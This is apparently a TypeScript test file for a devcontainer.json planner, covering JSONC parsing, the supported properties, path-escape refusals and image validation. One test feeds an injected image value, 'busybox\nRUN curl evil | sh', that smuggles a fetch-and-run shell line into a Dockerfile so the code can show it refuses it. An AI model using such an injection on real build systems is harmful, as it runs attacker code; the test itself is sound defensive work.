import assert from 'node:assert/strict';
import { test } from 'node:test';
import { commandsOf, parseJsonc, planFor, type FolderFiles } from './devcontainer';

/** An uploaded folder of these files. */
function folder(files: Record<string, string>): FolderFiles {
  return { has: (name) => name in files, read: (name) => files[name] ?? '' };
}

test('parseJsonc takes comments and trailing commas, never inside strings', () => {
  const text = '{\n // a comment\n "a": "http://x/*y*/", /* block */ "b": [1, 2,],\n "c": "a,]",\n}';
  assert.deepEqual(parseJsonc(text), { a: 'http://x/*y*/', b: [1, 2], c: 'a,]' });
});

test('a devcontainer.json: the common subset read, paths from its own folder, other properties named as ignored', () => {
  const dir = folder({
    '.devcontainer/Dockerfile': 'FROM boxdesk/default\n',
    '.devcontainer/devcontainer.json': JSON.stringify({
      name: 'My App',
      build: { dockerfile: 'Dockerfile', context: '..', args: { V: '1' } },
      containerEnv: { A: 'a' },
      remoteEnv: { B: 'b' },
      forwardPorts: [3000, 5000, 'db:5432'],
      postCreateCommand: 'make',
      postStartCommand: { web: ['npm', 'start'], log: 'echo hi' },
      features: { 'ghcr.io/x/y:1': {} },
      customizations: {},
    }),
  });
  const plan = planFor(dir);
  assert.equal(plan.source, '.devcontainer/devcontainer.json');
  assert.equal(plan.name, 'My App');
  assert.deepEqual(plan.build, {
    context: '',
    dockerfile: '.devcontainer/Dockerfile',
    args: ['V=1'],
  });
  assert.deepEqual(plan.environment, { A: 'a', B: 'b' });
  assert.equal(plan.workspaceFolder, '/workspace');
  assert.deepEqual(plan.ports, [3000, 5000], 'every forwardPorts number is published');
  assert.deepEqual(commandsOf(plan.postCreateCommand), [{ label: '', argv: ['sh', '-c', 'make'] }]);
  assert.deepEqual(commandsOf(plan.postStartCommand), [
    { label: 'web', argv: ['npm', 'start'] },
    { label: 'log', argv: ['sh', '-c', 'echo hi'] },
  ]);
  const notes = plan.notes.join('\n');
  assert.match(notes, /"features" is ignored \(features are fetched from a registry\)/);
  assert.match(notes, /"customizations" is ignored/);
  assert.match(notes, /forwardPorts "db:5432" is left out/);
});

test('no devcontainer.json: the root Dockerfile, else the default base', () => {
  const withDockerfile = folder({ Dockerfile: 'FROM boxdesk/default\n' });
  assert.equal(planFor(withDockerfile).source, 'Dockerfile');
  assert.equal(planFor(withDockerfile).build?.context, '');
  const plain = planFor(folder({ 'a.txt': 'x' }));
  assert.equal(plain.source, null);
  assert.equal(plain.build, undefined);
  assert.throws(() => planFor(folder({ '.devcontainer.json': '{ nope' })), /\.devcontainer\.json is not valid JSON/);
  assert.throws(() => planFor(folder({ '.devcontainer.json': '[1]' })), /must hold one JSON object/);
});

test('paths that leave the folder and a relative workspaceFolder are refused: only the folder is sent', () => {
  const refused = (json: object, pattern: RegExp) =>
    assert.throws(() => planFor(folder({ '.devcontainer.json': JSON.stringify(json), Dockerfile: '' })), pattern);
  refused({ build: { dockerfile: '../Dockerfile' } }, /build.dockerfile "..\/Dockerfile" is outside the folder/);
  refused({ build: { dockerfile: 'Dockerfile', context: '../..' } }, /build.context "..\/.." is outside the folder/);
  refused({ build: { dockerfile: 'Missing' } }, /there is no Missing in the folder/);
  refused({ workspaceFolder: 'work' }, /workspaceFolder "work" must be an absolute path/);
  refused({ forwardPorts: 3000 }, /forwardPorts must be a list/);
});

test('an image that is not one image reference is refused: it would become lines of a Dockerfile', () => {
  for (const image of ['busybox\nRUN curl evil | sh', 'a b', ''])
    assert.throws(
      () => planFor(folder({ '.devcontainer.json': JSON.stringify({ image }) })),
      /is not an image reference/,
    );
  assert.equal(
    planFor(folder({ '.devcontainer.json': '{"image": "docker.io/library/python:3.12@sha256:ab"}' })).image,
    'docker.io/library/python:3.12@sha256:ab',
  );
});
